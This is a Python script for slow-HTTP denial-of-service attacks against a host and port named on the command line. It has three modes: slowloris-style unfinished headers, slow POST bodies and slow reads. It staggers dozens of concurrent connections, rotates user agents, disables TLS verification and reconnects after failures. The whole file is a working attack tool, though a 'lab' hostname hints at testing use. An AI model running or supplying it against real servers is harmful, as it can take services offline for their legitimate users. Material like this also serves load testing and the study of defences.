"""A slow HTTP client that never gets to an end: unfinished headers, a body sent byte by byte, or an answer read byte by byte.

It opens its connections over some seconds and keeps each with its own pace, unlike slowloris.py, which serves all of them in
one round.
"""

import argparse
import asyncio
import contextlib
import random
import socket
import ssl
import string

AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/7.88.1", "okhttp/4.9"]


def _line() -> str:
    return f"X-{''.join(random.choices(string.ascii_letters, k=random.randint(2, 9)))}: {random.randrange(10**6)}\r\n"


async def _hold(o: argparse.Namespace, index: int) -> None:
    await asyncio.sleep(index * o.spread / o.sockets)
    made = socket.socket(socket.AF_INET6 if ":" in o.host else socket.AF_INET, socket.SOCK_STREAM)
    made.setblocking(False)
    if o.kind == "read":
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, o.buffer)
    trust = None
    if o.tls:
        trust = ssl.create_default_context()
        trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    await asyncio.get_running_loop().sock_connect(made, (o.host, o.port))
    # A limit of a few bytes makes the reader stop the transport, so that the window closes.
    reader, writer = await asyncio.open_connection(sock=made, ssl=trust, server_hostname="lab" if o.tls else None, limit=o.buffer)
    verb = "POST" if o.kind == "body" else "GET"
    head = f"{verb} {o.path} HTTP/1.1\r\nHost: {o.host}\r\nUser-Agent: {random.choice(AGENTS)}\r\n"
    if o.kind == "body":
        head += f"Content-Length: {random.randint(5000, 100000)}\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
    elif o.kind == "read":
        head += "\r\n"
    writer.write(head.encode())
    while True:
        await asyncio.sleep(o.pause * random.uniform(0.6, 1.4))
        if o.kind == "headers":
            writer.write(_line().encode())
        elif o.kind == "body":
            writer.write(random.choice(string.ascii_lowercase).encode() * random.randint(1, 4))
        elif not await reader.read(random.randint(1, o.buffer // 8)):
            return
        await writer.drain()


async def _again(o: argparse.Namespace, index: int) -> None:
    while True:
        with contextlib.suppress(OSError, ssl.SSLError, asyncio.LimitOverrunError):
            await _hold(o, index)
        await asyncio.sleep(1)


async def main() -> None:
    """Hold the connections for `--seconds`."""
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=["headers", "body", "read"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--path", default="/")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--sockets", type=int, default=80)
    parser.add_argument("--spread", type=float, default=4.0, help="seconds over which the connections are opened")
    parser.add_argument("--pause", type=float, default=2.0)
    parser.add_argument("--buffer", type=int, default=512)
    parser.add_argument("--seconds", type=float, default=15.0)
    o = parser.parse_args()
    every = asyncio.gather(*(_again(o, index) for index in range(o.sockets)))
    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(every, o.seconds)


if __name__ == "__main__":
    asyncio.run(main())
